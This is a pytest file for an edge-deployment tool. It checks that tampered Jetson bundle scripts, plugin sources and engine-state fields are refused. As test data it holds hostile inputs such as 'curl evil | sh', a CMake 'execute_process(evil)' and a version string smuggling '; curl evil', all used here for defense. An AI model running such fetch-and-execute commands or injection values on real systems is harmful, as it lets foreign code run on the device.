"""A bundle whose script is not ours: nothing of it runs, and nothing is copied."""

import dataclasses
import gzip
import io
import tarfile
from collections.abc import Mapping
from pathlib import Path

import pytest

from edgekit.bundle.engine import MODEL, SCRIPT, EngineState
from edgekit.bundle.manifest import BundleError, Manifest, ModelInput, RuntimeNeed
from edgekit.bundle.store import Bundle, open_bundle, write_bundle
from edgekit.compilers.device_build import PLUGIN_SOURCE, plugin_source, write_device_build
from edgekit.core.errors import UsageError
from edgekit.data.transforms import Preprocessing
from edgekit.devices.engine import check_engine_build
from edgekit.targets.descriptor import Descriptor, load_descriptor
from tests.bundle_files import LABELS, about, files, write

ORIN = dataclasses.replace(load_descriptor("jetson-orin-nano"), arch="any")
SIZE = (8, 8)
# The smallest ONNX file: IR version 8, an empty graph.
GRAPH = b"\x08\x08\x3a\x00"


def pending(
    folder: Path, target: Descriptor = ORIN, changed: Mapping[str, bytes] | None = None
) -> Bundle:
    """A bundle for a Jetson as `build` writes it, but for files that were ``changed``."""
    scratch = folder / "scratch"
    scratch.mkdir()
    (scratch / MODEL).write_bytes(GRAPH)
    write_device_build(scratch, ORIN, size=SIZE, plugin=True)
    manifest = Manifest(
        model={},
        classes=3,
        preprocessing=Preprocessing(size=SIZE),
        input=ModelInput("images", *SIZE),
        target=target,
        arch="any",
        main=MODEL,
        plugins=(),
        runtime=RuntimeNeed("tensorrt", "10.3", "same-or-newer"),
        sections={"engine": EngineState().to_section()},
    )
    contents = {file.name: file.read_bytes() for file in scratch.iterdir()}
    contents.update(changed or {})
    write_bundle(folder / "b", manifest, contents, LABELS)
    return open_bundle(folder / "b")


def packed(**members: bytes) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return gzip.compress(buffer.getvalue())


def test_ours_passes(tmp_path: Path) -> None:
    check_engine_build(pending(tmp_path))


def test_ours_passes_however_it_was_compressed(tmp_path: Path) -> None:
    again = gzip.compress(gzip.decompress(plugin_source()), 1)
    assert again != plugin_source()
    check_engine_build(pending(tmp_path, changed={PLUGIN_SOURCE: again}))


@pytest.mark.parametrize(
    ("name", "data"),
    [
        (SCRIPT, b"curl evil | sh\n"),
        (MODEL, b"\x08\x09\x3a\x00"),  # the script was made for another
        (PLUGIN_SOURCE, packed(**{"targets/tensorrt/CMakeLists.txt": b"execute_process(evil)"})),
        (PLUGIN_SOURCE, plugin_source() + packed(more=b"evil")),
        (PLUGIN_SOURCE, plugin_source()[:-9]),
        (PLUGIN_SOURCE, b"none"),
    ],
)
def test_anything_else_is_refused(name: str, data: bytes, tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="this edgekit") as caught:
        check_engine_build(pending(tmp_path, changed={name: data}))
    assert "\n" not in str(caught.value)


def test_a_script_for_another_target_is_refused(tmp_path: Path) -> None:
    other = dataclasses.replace(ORIN, name="my-orin")
    with pytest.raises(UsageError, match="is not the one that this edgekit writes"):
        check_engine_build(pending(tmp_path, target=other))


def test_only_tensorrt_has_engines(tmp_path: Path) -> None:
    """An OpenVINO bundle with a pending engine had its own script run, as whoever deployed it."""
    manifest = dataclasses.replace(about(), sections={"engine": EngineState().to_section()})
    write_bundle(tmp_path / "b", manifest, {**files(), SCRIPT: b"curl evil | sh\n"}, LABELS)
    with pytest.raises(UsageError, match="openvino has no engines: do not trust it"):
        check_engine_build(open_bundle(tmp_path / "b"))
    check_engine_build(open_bundle(write(tmp_path / "without")))


@pytest.mark.parametrize(
    ("section", "state"),
    [
        ("pending: build on device", EngineState()),
        ("built on the device with TensorRT 10.3.0", EngineState("10.3.0")),
        ({"state": "pending"}, EngineState()),
        ({"state": "built", "tensorrt": "10.3.0"}, EngineState("10.3.0")),
    ],
)
def test_the_engines_state_as_manifests_say_it(section: object, state: EngineState) -> None:
    assert EngineState.of(dataclasses.replace(about(), sections={"engine": section})) == state
    assert EngineState.of(about()) is None


@pytest.mark.parametrize(
    "section",
    [
        *("", "pending", "built on the device with TensorRT ", 1, [], {}, {"state": "built"}),
        {"state": "built", "tensorrt": "1; curl evil"},
        {"state": "built", "tensorrt": ""},
        {"state": "pending", "more": 1},
    ],
)
def test_any_other_state_is_refused(section: object) -> None:
    with pytest.raises((BundleError, UsageError)) as caught:
        EngineState.of(dataclasses.replace(about(), sections={"engine": section}))
    assert caught.value.exit_code == 2
